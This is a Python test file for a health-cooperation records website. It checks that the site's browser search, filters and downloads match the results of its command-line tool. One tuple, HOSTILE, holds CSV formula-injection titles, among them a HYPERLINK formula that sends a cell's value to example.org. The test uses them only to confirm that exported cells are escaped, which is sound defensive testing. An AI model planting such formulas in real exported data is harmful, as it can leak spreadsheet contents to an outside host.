"""The page of all records: its search and filters find what the command line finds."""

import json
import re
import shlex
from collections import defaultdict
from collections.abc import Callable
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from healthcoop import Dataset, Query
from healthcoop.site import listing, search, static_files
from healthcoop.site.source import Settings, Source
from tests.bench import generate
from tests.conftest import LATER, ROOT

from .browser import Pages, served, shift
from .sites import site

if TYPE_CHECKING:
    from playwright.sync_api import Page


def script(content: bytes) -> Any:
    """Return the data of a script: what it calls the function with."""
    match = re.fullmatch(r'healthcoopSearch\("([a-z0-9-]+)",(.*)\);\n', content.decode("utf-8"))
    assert match
    return json.loads(match[2])


def numbers(text: str) -> list[int]:
    found = [0]
    for digits in text.split(" "):
        found.append(found[-1] + int(digits, 36))
    return found[1:]


def test_scripts_have_each_word_with_its_records_in_order(few_records: Path) -> None:
    with Dataset.open(few_records) as dataset:
        pages = site(dataset)
        ids = [record.id for record in dataset.records(sort=["-date", "id"])]
        firsts = script(pages["records/search/records.js"])["words"]
        words = 0
        for number, first in enumerate(firsts):
            data = script(pages[f"records/search/words-{number}.js"])
            places = script(pages[f"records/search/places-{number}.js"])
            assert data[0] == first
            for word, records, where in zip(data[::2], data[1::2], places, strict=True):
                if word != "¶":
                    query = Query(texts=f'"{word}"')
                    found = {record.id for record in dataset.records(query)}
                    assert {ids[each] for each in numbers(records)} == found, word
                    assert len(where.split(",")) == len(found)
                    words += 1
    assert words > 100


@pytest.mark.slow
def test_regions_of_records_are_those_of_their_day(shared_cache: None) -> None:
    with Dataset.open(ROOT) as dataset:
        data = script(site(dataset)["records/search/records.js"])
        ids = [record.id for record in dataset.records(sort=["-date", "id"])]
        regions = dict(data["otherRegions"])
        for number, parties in enumerate(data["ofParties"]):
            of_parties = {each for party in parties for each in data["regionsOfParties"][party]}
            regions.setdefault(number, of_parties)
        assert 0 < len(data["otherRegions"]) < 100
        for number, (name, *_) in enumerate(data["regions"]):
            if name in ("EUR", "SEAR", "WPR", "EMR", "Africa", "Central Asia", "World"):
                found = {record.id for record in dataset.records(Query(regions=(name,)))}
                assert {ids[each] for each in regions if number in regions[each]} == found, name


ANSWERS = {
    "": [],
    "?text=health": ["--text", "health"],
    "?text=SAĞLIK": ["--text", "SAĞLIK"],
    "?text=sag%CC%86lik": ["--text", "sag\u0306lik"],
    "?text=%C5%9Eir%C9%99liyev": ["--text", "Şirəliyev"],
    "?text=минист*": ["--text", "минист*"],
    "?text=%E4%B8%AD": ["--text", "中*"],  # neither
    "?text=covid-19": ["--text", "covid-19"],
    '?text="joint committee"': ["--text", '"joint committee"'],
    '?text="joint committee': ["--text", '"joint committee'],
    '?text="of the republic" -brazil': ["--text", '"of the republic" -brazil'],
    '?text="ministry of heal"*': ["--text", '"ministry of heal"*'],
    "?text=joint+committee": ["--text", "joint committee"],
    "?text=vaccin*": ["--text", "vaccin*"],
    "?text=vaccin": ["--text", "vaccin*"],  # not a word of any record
    "?text=c*": ["--text", "c*"],
    "?text=the+of": ["--text", "the of"],
    "?text=-the": ["--text", "-the"],
    "?text=health+-cuba+-%22united+states%22": ["--text", 'health -cuba -"united states"'],
    "?text=nursing+OR+cuba+-vaccines": ["--text", "nursing OR cuba -vaccines"],
    "?text=nursing+or+cuba": ["--text", "nursing or cuba"],
    "?text=d'entente+OR+l’OMS": ["--text", "d'entente OR l’OMS"],
    "?text=NEAR(joint+committee)": ["--text", "NEAR(joint committee)"],
    "?text=straße+OR+łódź": ["--text", "straße OR łódź"],
    "?text=zzzz": ["--text", "zzzz"],
    "?text=text:health": ["--text", "text:health"],
    "?country=AZ": ["--country", "AZ"],
    "?country=AZ&country=TR": ["--country", "AZ", "--country", "TR"],
    "?country=Turkey&text=health": ["--country", "TR", "--text", "health"],
    "?country=WHO": ["--country", "WHO"],
    "?country=AZ&organisation=WHO": ["--pair", "AZ", "WHO"],
    "?country=AZ&country=TR&organisation=WHO&organisation=OTS": [
        *("--pair", "AZ", "WHO", "--pair", "AZ", "OTS", "--pair", "TR", "WHO"),
        *("--pair", "TR", "OTS"),
    ],
    "?pair=AZ+TR": ["--pair", "AZ", "TR"],
    "?pair=AZ+TR&type=meeting": ["--pair", "AZ", "TR", "--type", "meeting"],
    "?sort=date": ["--sort", "date"],
    "?text=health&sort=date": ["--sort", "date", "--text", "health"],
    "?region=EUR": ["--region", "EUR"],
    "?region=143&region=Northern+america": [
        *("--region", "Central Asia", "--region", "Northern America")
    ],
    "?region=WPR&country=ID&country=MN": [
        *("--country", "ID", "--country", "MN", "--region", "WPR")
    ],
    "?region=World&region=AFR&until=1990&type=agreement": [
        *("--region", "World", "--region", "AFR", "--type", "agreement", "--until", "1990")
    ],
    "?region=Western+Asia&organisation=WHO&in-force-on=2015-01-01": [
        *("--country", "WHO", "--region", "Western Asia", "--in-force-on", "2015-01-01")
    ],
    "?type=mou&type=agreement&year=2020": [
        *("--type", "mou", "--type", "agreement", "--year", "2020")
    ],
    "?kind=encounter&topic=health-workforce": [
        "--topic",
        "health-workforce",
        "--kind",
        "encounter",
    ],
    "?year=1948&year=2021": ["--year", "1948", "--year", "2021"],
    "?since=2020-05&until=2021-02-03": ["--since", "2020-05", "--until", "2021-02-03"],
    "?until=1960": ["--until", "1960"],
    "?in-force-on=2026-11-30": ["--in-force-on", "2026-11-30"],
    "?in-force-on=1995-07-01&certainty=certain": [
        *("--in-force-on", "1995-07-01", "--certainty", "certain")
    ],
    "?in-force-on=2010-01-01&country=US&country=FR&certainty=certain": [
        *("--country", "US", "--country", "FR"),
        *("--in-force-on", "2010-01-01", "--certainty", "certain"),
    ],
    "?in-force-on=2020-01-01&country=FR&organisation=WHO": [
        *("--pair", "FR", "WHO", "--in-force-on", "2020-01-01")
    ],
    "?in-force-on=2005-01-01&pair=US+RU": ["--pair", "US", "RU", "--in-force-on", "2005-01-01"],
}
"""Addresses, and the options of ``healthcoop list`` that find the same."""


@pytest.mark.slow
def test_each_address_finds_what_its_command_line_finds(
    open_page: Pages, site_url: str, cli_invoke: Any, shared_cache: None, monkeypatch: Any
) -> None:
    monkeypatch.setenv("HEALTHCOOP_TODAY", LATER)
    monkeypatch.chdir(ROOT)
    page = open_page()
    differing = {}
    for address, options in ANSWERS.items():
        command = ["list", *([] if "--sort" in options else ["--sort", "-date"]), *options]
        ids = cli_invoke(*command, "-f", "ids").stdout.split()
        go(page, f"{site_url}records/index.html{address}")
        line = page.locator("#line")
        found = [count(page), shown(page)]
        if len(ids) > 25:
            go(page, last_page(page, address, len(ids)))
            found[1] += shown(page)
            ids = [len(ids), [*ids[:25], *ids[(len(ids) - 1) // 25 * 25 :]]]
        else:
            ids = [len(ids), ids]
        if found != ids or shlex.split(line.inner_text()) != ["healthcoop", *command]:
            differing[address] = line.inner_text(), found, ids
    assert differing == {}
    assert len(ANSWERS) > 40


def go(page: "Page", address: str) -> None:
    """Open the page of all records, and wait for its results."""
    page.goto(address)
    page.locator("#facets fieldset").first.wait_for(state="attached")


def count(page: "Page") -> int:
    """Return the number of records that the page says it found."""
    text = page.locator("#count").inner_text()
    match = re.search(r"([0-9,]+) records?\b", text)
    return int(match[1].replace(",", "")) if match else 0


def shown(page: "Page") -> list[str]:
    """Return the ids of the records that are shown."""
    links = page.locator("#list .title a").evaluate_all("links => links.map(link => link.href)")
    return [link.rpartition("/")[2].removesuffix(".html") for link in links]


def last_page(page: "Page", address: str, number: int) -> str:
    start = page.url.partition("?")[0]
    return f"{start}{address or '?'}&page={(number - 1) // 25 + 1}"


@pytest.mark.slow
def test_filters_change_the_address_and_back_undoes_them(
    page: "Page", site_url: str, open_page: Pages
) -> None:
    from playwright.sync_api import expect

    page.get_by_label("Search the records").fill("health")
    page.keyboard.press("Enter")
    expect(page.locator("#line")).to_contain_text("--text health")
    expect(page).to_have_url(f"{site_url}records/index.html?text=health")
    everything = count(page)
    page.get_by_role("group", name="Country").get_by_label("Cuba").check()
    expect(page.locator("#line")).to_contain_text("--country CU")
    expect(page).to_have_url(f"{site_url}records/index.html?text=health&country=CU")
    assert 0 < count(page) < everything
    page.get_by_placeholder("Find a country").fill("turk")
    boxes = page.get_by_role("group", name="Country").get_by_role("checkbox")
    expect(boxes).to_have_count(2)  # the other is Turkmenistan
    boxes.and_(page.get_by_label("Türkiye")).check()
    expect(page.locator("#line")).to_contain_text("--country TR")
    assert page.evaluate("document.activeElement.type") == "checkbox"
    found, ids = count(page), shown(page)
    other = open_page(page.url)
    expect(other.locator("#line")).to_contain_text("--country TR")
    assert (count(other), shown(other)) == (found, ids)
    assert other.get_by_role("checkbox", name="Türkiye").is_checked()
    page.go_back()
    expect(page.locator("#line")).not_to_contain_text("TR")
    page.get_by_role("link", name="Remove the filter “health”").click()
    expect(page.locator("#line")).to_have_text("healthcoop list --sort -date --country CU")
    assert page.get_by_role("searchbox").first.input_value() == ""
    page.go_back()
    page.go_back()
    expect(page.locator("#line")).to_have_text("healthcoop list --sort -date --text health")
    assert count(page) == everything
    page.go_forward()
    expect(page.locator("#line")).to_contain_text("--country CU")


DOWNLOADED = ["--columns", "id,date,title,type,countries,organisations"]
HOSTILE = (
    '=HYPERLINK("https://example.org/?x="&A1; "Click, please")',
    "+1 'and' -1",
    "-2+3",
    "@SUM(1, 2)",
)


def downloaded(page: "Page", name: str) -> bytes:
    with page.expect_download() as download:
        page.get_by_role("button", name=name).click()
    assert download.value.suggested_filename == f"records-found.{name.lower()}"
    return download.value.path().read_bytes()


@pytest.mark.slow
def test_results_are_downloaded_as_the_command_line_writes_them(
    open_page: Pages, site_url: str, cli_invoke: Any, shared_cache: None, monkeypatch: Any
) -> None:
    monkeypatch.chdir(ROOT)
    page = open_page()
    for address, options in {
        "?text=health&country=AZ": ["--sort", "-date", "--text", "health", "--country", "AZ"],
        "?sort=date": ["--sort", "date"],
    }.items():
        go(page, f"{site_url}records/index.html{address}")
        command = ["list", *options, *DOWNLOADED]
        expected = cli_invoke(*command, "-f", "csv").stdout.encode()
        assert downloaded(page, "CSV") == expected
        expected = cli_invoke(*command, "-f", "json").stdout
        assert json.loads(downloaded(page, "JSON")) == json.loads(expected)
    go(page, f"{site_url}records/index.html?text=zzzz")
    assert page.get_by_role("button", name="CSV").is_disabled()


@pytest.mark.slow
def test_downloaded_cells_cannot_be_formulas(
    few_records: Path, tmp_path: Path, chromium: Any, cli_invoke: Any
) -> None:
    records = sorted((few_records / "records").rglob("*.yaml"))
    for path, title in zip(records, HOSTILE, strict=True):
        text = path.read_text(encoding="utf-8")
        before, _, after = text.partition("\ntitle: ")
        after = re.sub(r"\A.+(\n  .+)*", "", after)
        text = f"{before}\ntitle: {json.dumps(title)}{after}"
        path.write_text(text, encoding="utf-8")
    with Dataset.open(few_records) as dataset:
        dataset.build_site(tmp_path / "site", pyodide="none")
    with served(tmp_path / "site") as address:
        page = Pages(chromium, [address])()
        go(page, f"{address}records/index.html")
        found = downloaded(page, "CSV")
    command = ["--root", str(few_records), "list", "--sort", "-date", *DOWNLOADED]
    assert found == cli_invoke(*command, "-f", "csv").stdout.encode()
    assert found.count(b",\"'=") + sum(found.count(sign) for sign in (b",'+", b",'-", b"'@")) == 4


@pytest.mark.slow
def test_the_order_of_the_results_is_in_the_address(page: "Page", site_url: str) -> None:
    from playwright.sync_api import expect

    go(page, f"{site_url}records/index.html?country=AZ")
    newest = shown(page)
    page.get_by_role("link", name="Oldest first").click()
    expect(page.locator("#count")).to_contain_text("the oldest event first")
    expect(page).to_have_url(f"{site_url}records/index.html?country=AZ&sort=date")
    assert shown(page) != newest
    page.get_by_role("link", name="Newer").click()
    expect(page.locator("#pages")).to_contain_text("Page 2")
    expect(page).to_have_url(f"{site_url}records/index.html?country=AZ&sort=date&page=2")
    page.get_by_role("link", name="Newest first").click()
    expect(page.locator("#count")).to_contain_text("the newest event first")
    assert shown(page) == newest
    expect(page).to_have_url(f"{site_url}records/index.html?country=AZ")


@pytest.mark.slow
def test_everything_works_with_a_keyboard(open_page: Pages, site_url: str) -> None:
    from playwright.sync_api import expect

    page = open_page()
    go(page, f"{site_url}records/index.html")
    page.locator("#q").focus()
    page.keyboard.type("health", delay=5)
    expect(page.locator("#line")).to_contain_text("--text health")
    page.keyboard.press("Tab")
    page.keyboard.press("Tab")  # beyond the button: the kinds
    page.keyboard.press("ArrowDown")
    expect(page.locator("#line")).to_contain_text("--kind instrument")
    page.keyboard.press("Tab")
    page.keyboard.type("brazil")
    page.keyboard.press("Tab")
    page.keyboard.press("Space")
    expect(page.locator("#line")).to_contain_text("--country BR")
    assert page.evaluate("document.activeElement.checked")
    page.get_by_role("link", name="Older").focus()
    page.keyboard.press("Enter")
    expect(page.locator("#pages")).to_contain_text("Page 2")
    assert page.evaluate("document.activeElement.id") == "found"
    stops = page.evaluate(
        "[...document.querySelectorAll('#facets input, #facets button')]"
        ".filter(each => each.offsetParent).length"
    )
    assert stops < 65  # of 200 countries and as many other boxes


@pytest.mark.slow
def test_without_scripts_it_is_a_plain_list(open_page: Pages, site_url: str) -> None:
    page = open_page(f"{site_url}records/index.html?text=cuba", java_script_enabled=False)
    assert len(shown(page)) == 25
    assert page.get_by_text("The search needs JavaScript").is_visible()
    assert page.locator("#facets, #line").filter(visible=True).count() == 0
    page.get_by_role("link", name="Older").click()
    page.wait_for_url(f"{site_url}records/page-2.html")
    assert len(shown(page)) == 25


@pytest.mark.slow
def test_without_its_data_it_is_a_plain_list_too(chromium: Any, site_url: str) -> None:
    from playwright.sync_api import expect

    page = Pages(chromium, [site_url])()
    page.route("**/search/records.js", lambda route: route.abort())
    page.goto(f"{site_url}records/index.html?text=cuba")
    expect(page.get_by_text("The search needs JavaScript")).to_be_visible()
    assert len(shown(page)) == 25
    assert page.locator("#facets, #line").filter(visible=True).count() == 0


@pytest.mark.slow
def test_it_works_from_a_file_share(open_page: Pages, real_site: Path) -> None:
    from playwright.sync_api import expect

    page = open_page((real_site / "index.html").as_uri())
    page.get_by_label("Search the records").fill('"joint committee" OR vaccin*')
    page.get_by_role("button", name="Search").click()
    expect(page.locator("#line")).to_contain_text("vaccin*")
    assert count(page) > 10
    page.get_by_role("radio", name="Certainly in force").check()
    expect(page.locator("#line")).to_contain_text(f"--in-force-on {LATER} --certainty certain")
    page.go_back()
    expect(page.locator("#line")).not_to_contain_text("--in-force-on")


@pytest.mark.slow
def test_what_cannot_be_searched_for_is_said(open_page: Pages, site_url: str) -> None:
    from playwright.sync_api import expect

    page = open_page()
    for address, message in {
        "?text=!": "No word to search for in “!”.",
        "?text=OR+x": "“OR x” has no words on one side of OR.",
        "?since=202X": "“202X” is not a date",
        "?year=2020-13": "“2020-13” is not a date",
        "?country=Atlantis": "No record matches.",
        "?in-force-on=2020": "“2020” is not one day",
    }.items():
        page.goto(f"{site_url}records/index.html{address}")
        expect(page.get_by_role("status").first).to_contain_text(message)
        assert shown(page) == []


@pytest.mark.slow
def test_the_first_load_is_small_and_nothing_moves(
    open_page: Pages, site_url: str, real_site: Path
) -> None:
    open_page(f"{site_url}records/index.html").wait_for_load_state("networkidle")
    files = [
        real_site / request.removeprefix(site_url)
        for request in open_page.requests
        if request.startswith(site_url)
    ]
    assert len(files) > 5
    assert sum(file.stat().st_size for file in files) < 200_000
    for width in (360, 768, 1280):
        page = open_page(viewport={"width": width, "height": 800})
        for address in ("", "?country=AZ&country=TR&topic=health-workforce", "?text=zzzz"):
            assert shift(page, f"{site_url}records/index.html{address}") == 0, (width, address)


@pytest.mark.slow
def test_words_are_folded_and_separated_as_in_the_index(
    open_page: Pages, site_url: str, real_site: Path
) -> None:
    """Every character of Unicode that both know, between two letters; every word of the index."""
    import unicodedata

    from healthcoop.model.folding import fold

    page = open_page()
    go(page, f"{site_url}records/index.html")
    known = [
        code
        for code in range(0x20, 0x110000)
        if unicodedata.category(chr(code)) not in ("Cn", "Cs", "Co")
        and "CHEROKEE" not in unicodedata.name(chr(code), "")  # Python folds these to capitals
    ]
    folded = page.evaluate(
        """async codes => {
          const letters = await new Promise(done => {
            const script = document.createElement("script");
            window.healthcoopSearch = (name, data) => done(data.letters);
            script.src = "search/records.js?again";
            document.head.append(script);
          });
          window.search = new TextSearch({letters, firstWords: [], size: 0});
          return codes.map(code => search.fold(`a${String.fromCodePoint(code)}b`));
        }""",
        known,
    )
    differing = {
        f"U+{code:04X}": (mine, theirs)
        for code, theirs in zip(known, folded, strict=True)
        if (mine := fold(f"a{chr(code)}b")) != theirs
    }
    assert differing == {}
    words = [
        word
        for file in (real_site / "records" / "search").glob("words-*.js")
        for word in script(file.read_bytes())[::2]
        if word != "¶"
    ]
    parsed = page.evaluate("words => words.map(word => search.parse(word)[0][0].tokens)", words)
    assert len(words) > 5000
    assert [word for word, tokens in zip(words, parsed, strict=True) if tokens != [word]] == []


ANSWERED = """async text => {
  const query = document.getElementById("q"), line = document.getElementById("line");
  const drawn = new Promise(done => {
    const observer = new MutationObserver(() => (observer.disconnect(), done()));
    observer.observe(line, {childList: true});
  });
  query.value = text;
  query.dispatchEvent(new Event("input"));
  await drawn;
  document.body.getBoundingClientRect();
}"""
"""Search for a text; wait until its results are laid out."""


def processor_time(page: "Page") -> Callable[[], float]:
    """Return a function that returns the milliseconds of a page's main thread so far."""
    session = page.context.new_cdp_session(page)
    session.send("Performance.enable", {"timeDomain": "threadTicks"})

    def spent() -> float:
        metrics = session.send("Performance.getMetrics")["metrics"]
        (seconds,) = (each["value"] for each in metrics if each["name"] == "TaskDuration")
        return 1000 * float(seconds)

    return spent


@pytest.mark.slow
def test_ten_thousand_records_answer_within_100_ms(tmp_path: Path, chromium: Any) -> None:
    """Of processor time, as other processes use the machine, too; the best of five."""
    generate.write(10_000, tmp_path / "data")
    site = tmp_path / "site"
    with Dataset.open(tmp_path / "data") as dataset:
        source = Source(
            index=dataset.index,
            files=dataset.files,
            provenance=dataset.provenance,
            today=dataset.today,
            settings=Settings(),
        )
        for kind in (static_files, listing, search):
            for path, content in kind.files(source):
                if "/page-" not in path:
                    (site / path).parent.mkdir(parents=True, exist_ok=True)
                    (site / path).write_bytes(content())
    texts = [
        "health",
        "vaccin*",
        "vaccin",
        "ministry of health",
        '"ministry of health"',
        "a* -cuba",
    ]
    times: dict[str, list[float]] = defaultdict(list)
    with served(site) as address:
        page = Pages(chromium, [address])()
        spent = processor_time(page)
        for view in ("", "?region=EUR&region=Asia&sort=date"):
            go(page, f"{address}records/index.html{view}")
            for _ in range(6):
                for text in texts:
                    before = spent()
                    page.evaluate(ANSWERED, text)
                    times[view + text].append(spent() - before)
                    assert count(page) > 0, view + text
    best = {text: min(found[1:]) for text, found in times.items()}  # the first loads scripts
    assert {text: found for text, found in best.items() if found > 100} == {}
    assert min(best.values()) > 0


@pytest.mark.slow
def test_names_of_parties_in_the_text_offer_all_their_records(site_url: str, page: Any) -> None:
    offered = {
        "Holland": ("All records of Netherlands", "?country=NL"),
        "azerbaijan and cuba": ("All records of Azerbaijan with Cuba", "?pair=AZ+CU"),
        "World Health Organization": (
            "All records of World Health Organization",
            "?organisation=WHO",
        ),
    }
    for text, (words, address) in offered.items():
        go(page, f"{site_url}records/index.html?text={text}")
        assert page.get_by_role("link", name=words).get_attribute("href") == address
    go(page, f"{site_url}records/index.html?text=vaccines")
    assert page.get_by_role("link", name="All records of").count() == 0
